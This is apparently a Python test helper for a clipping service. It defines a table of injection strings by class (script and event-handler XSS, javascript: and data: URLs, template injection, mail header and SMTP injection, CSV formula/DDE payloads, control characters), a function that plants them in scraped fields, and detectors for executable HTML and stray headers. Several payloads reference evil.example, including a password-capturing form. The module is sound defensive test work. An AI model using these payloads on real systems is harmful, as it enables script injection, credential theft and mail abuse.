"""Text that attacks whoever shows it, by class, and the questions that show whether an attack came through.

The classes are those of OWASP's filter evasion sheet and of header injection; the strings are our own. A test puts each
into every scraped field (`poisoned`) and asks what is executable in what came out (`executable`, `in_headers`).
"""

from __future__ import annotations

from dataclasses import fields, is_dataclass, replace
from enum import Enum
from typing import Any, TypeVar, cast

from lxml import html as lxml_html

VECTORS: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script\t>",
        "<<script>alert(1)//<</script>",
    ),
    "handler": (
        '"><img src=x onerror=alert(1)>',
        "' onmouseover='alert(1)",
        '" autofocus onfocus="alert(1)',
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "` onclick=`alert(1)",
        "<x/onpointerenter=alert(1)>hover</x>",
    ),
    "element": (
        "'\"--></style></title></textarea><svg/onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='data:text/html,x'></object><embed src=x>",
        "<form action=https://evil.example/><input type=password name=p></form>",
        "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<!--[if mso]><script>1</script><![endif]-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<template><img src=x onerror=alert(1)></template><noscript><p title='</noscript><img src=x onerror=1>'>",
    ),
    "address": (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "\x01javascript:alert(1)",
        "  javascript:alert(1)",
        "javascript&colon;alert(1)",
        "javascript&#58;alert(1)",
        "&#x6A;&#x61;vascript:alert(1)",
        "javascript%3Aalert(1)",
        "vbscript:x",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "file:///etc/passwd",
        "feed:javascript:alert(1)",
        "//evil.example/x",
        "\\\\evil.example\\x",
        "https:evil.example",
        "https://[broken",
        "https://good.example@evil.example/\u202egnp.js",
        'https://a.example/"onmouseover="alert(1)',
        "https://a.example/'><script>alert(1)</script>",
        "https://a.example/\r\nBcc: everybody@example.org",
        "https://a.example/" + "x" * 5000,
    ),
    "encoding": (
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "\xbcscript\xbealert(1)\xbc/script\xbe",
    ),
    "null": (
        "<scr\x00ipt>alert(1)</scr\x00ipt>",
        "<img\x00src=x\x0bonerror=alert(1)>",
        "\x00\x01\x08\x1b[31m\x7f\x9b2J",
        "<\x0cscript\x1f>alert(1)",
    ),
    "style": (
        "<style>*{background:url(https://evil.example/x)}</style>",
        "<p style=\"background:url('javascript:alert(1)')\">",
        '" style="position:fixed;inset:0;background:url(//evil.example)',
        "expression(alert(1))",
        "</style><style>@import 'https://evil.example/x.css';",
        "}*{display:none}@media all{",
    ),
    "template": (
        "{{ 7*7 }}{% raw %}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% include '/etc/passwd' %}{# x #}",
        "${7*7} #{7*7} <%= 7*7 %> {php}echo 49{/php}",
        "{0.__class__} {n} {outlet} {}",
        "%s%n%x %(password)s %d",
    ),
    "header": (
        "Wali kota\r\nBcc: everybody@example.org\r\n\r\n<b>body</b>",
        "Wali kota\nSubject: other",
        "Wali kota\rTo: x@example.org",
        "Wali kota%0d%0aBcc:%20x@example.org",
        "Wali kota\u2028Bcc: x@example.org\u2029",
        "=?utf-8?q?=0d=0aBcc:_x=40example.org?=",
        '"x" <x@example.org>, y@example.org',
        ".\r\nQUIT\r\n",
        "\r\n.\r\nMAIL FROM:<x@example.org>\r\n",
    ),
    "marker": (
        "<!--kliping:links-->",
        "--=_0\r\nContent-Type: text/html\r\n\r\n<b>",
        "-- \r\nsignature",
    ),
    "unseen": (
        "\u202egnp.exe\u202c \u2066abc\u2069 \u200f \u061c",
        "\ufeff\u00ad\u180e\u2060w\u2062a\u2063l\u2064i",
        "\ud800 lone \udfff",
        "\ufdd0\uffff\U0010ffff",
        "\U000e0041\U000e0042\U000e007f tags",
        "Za\u0300\u0301\u0302\u0303" + "\u0316\u0317\u0318" * 60,
    ),
    "long": (
        "x" * 20_000,
        "ก" * 8_000,
        "https://satu.example/" + "alamatyangtidakdapatdipatahkan" * 40,
        "<" * 3_000,
        "&" * 3_000,
        "{{" * 2_000,
    ),
    "formula": (
        "=HYPERLINK(\"https://evil.example\",\"x\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "*tebal* _miring_ ~coret~ ```x``` [x](javascript:alert(1))",
    ),
}  # fmt: skip
ALL = tuple(text for texts in VECTORS.values() for text in texts)
CASES = tuple((kind, number) for kind, texts in VECTORS.items() for number in range(len(texts)))  # ids without controls

# Fields that hold what a page, a person or an outlet file says, in `Content` and in `Article` alike.
SCRAPED = frozenset({
    "headline", "extract", "text", "speaker", "role", "outlet_title", "title", "label", "copy_of", "authors",
    "editors", "translators", "photographers", "section", "article_section", "note", "detail", "reason", "url",
    "canonical_url", "language", "in_language", "summary", "description", "byline", "dateline", "credit_line",
    "keywords", "syndicated_from", "clarify", "disputed", "article_body", "actor", "organisation", "unit",
    "address",
})  # fmt: skip
Thing = TypeVar("Thing")
_RUNS = ("script", "img", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "base", "link",
         "audio", "video", "template", "noscript", "applet", "frame", "details")  # fmt: skip
_ADDRESSES = ("href", "src", "action", "formaction", "background", "data", "poster", "srcset", "cite", "ping")
_HEADERS = frozenset({
    b"auto-submitted", b"content-disposition", b"content-language", b"content-transfer-encoding",
    b"content-type", b"date", b"dkim-signature", b"feedback-id", b"from", b"in-reply-to", b"list-archive",
    b"list-help", b"list-id", b"list-owner", b"list-post", b"list-subscribe", b"list-unsubscribe",
    b"list-unsubscribe-post", b"message-id", b"mime-version", b"precedence", b"references", b"reply-to",
    b"sender", b"subject", b"to", b"x-auto-response-suppress", b"x-kliping-reader",
})  # fmt: skip
_SAFE = ("http://", "https://", "mailto:", "#")


def vector(kind: str, number: int) -> str:
    return VECTORS[kind][number]


def poisoned(thing: Thing, text: str, names: frozenset[str] = SCRAPED) -> Thing:
    """A frozen dataclass with `text` in every field of these names that holds text, all the way down."""
    return cast("Thing", _poisoned(thing, text, names, named=False))


def _poisoned(value: object, text: str, names: frozenset[str], *, named: bool) -> object:
    if is_dataclass(value) and not isinstance(value, type):
        inner = {
            field.name: _poisoned(getattr(value, field.name), text, names, named=field.name in names)
            for field in fields(value)
            if field.init
        }
        return replace(cast("Any", value), **inner)
    if isinstance(value, tuple):
        return tuple(_poisoned(one, text, names, named=named) for one in value)
    if isinstance(value, str) and not isinstance(value, Enum) and named:
        return text
    return value


def executable(page: bytes | str) -> list[str]:
    """What of an HTML page could run, load or lead elsewhere than a link that is shown; empty for a safe one.

    A page that has scripts or pictures of its own is asked with `allowed`: see `beyond`.
    """
    return beyond(page, frozenset())


def beyond(page: bytes | str, allowed: frozenset[str]) -> list[str]:
    """As `executable`, for a page with elements of its own: `{"img", "form"}`."""
    text = page.decode() if isinstance(page, bytes) else page
    tree = lxml_html.document_fromstring(text.encode(), parser=lxml_html.HTMLParser(encoding="utf-8"))
    found = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue  # a comment: conditional ones are ours, and scraped text opens none
        if element.tag in _RUNS and element.tag not in allowed:
            found.append(f"<{element.tag}>")
        found += _attributes(element)
    return found


def _attributes(element: lxml_html.HtmlElement) -> list[str]:
    found = []
    for name, value in element.attrib.items():
        flat = "".join(value.split()).lower()
        ours = element.tag == "img" and flat.startswith("data:image/")
        if name.startswith("on") or name in ("srcdoc", "http-equiv"):
            found.append(f"{name}={value[:60]}")
        if name in _ADDRESSES and not flat.startswith(_SAFE) and not ours:
            found.append(f"{name}={value[:60]}")
        if name in _ADDRESSES and set(value) & set('"<> \t\r\n\x00'):
            found.append(f"{name} holds what no address may: {value[:60]!r}")
        if name == "style" and ("url(" in flat or "expression(" in flat or "@import" in flat):
            found.append(f"style={value[:60]}")
    return found


def unseen(text: str) -> list[str]:
    """Control and direction characters, and halves of characters, in text that people read; line ends are allowed."""
    bad = {*map(chr, range(32)), *map(chr, range(0x7F, 0xA0))} - {"\n", "\r", "\t"}
    bad |= {*"\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff"}
    return sorted({hex(ord(c)) for c in text if c in bad or 0xD800 <= ord(c) <= 0xDFFF})


def in_headers(message: bytes) -> list[str]:
    """Header fields of a mail that no message of ours has, and line ends that are not CRLF in its head."""
    head = message.partition(b"\r\n\r\n")[0]
    lines = [line for line in head.split(b"\r\n") if not line.startswith((b" ", b"\t"))]
    found = [line[:60].decode("ascii", "replace") for line in lines if line.partition(b":")[0].lower() not in _HEADERS]
    bare = head.replace(b"\r\n", b"")
    return found + ["a bare line end"] * (b"\n" in bare or b"\r" in bare)
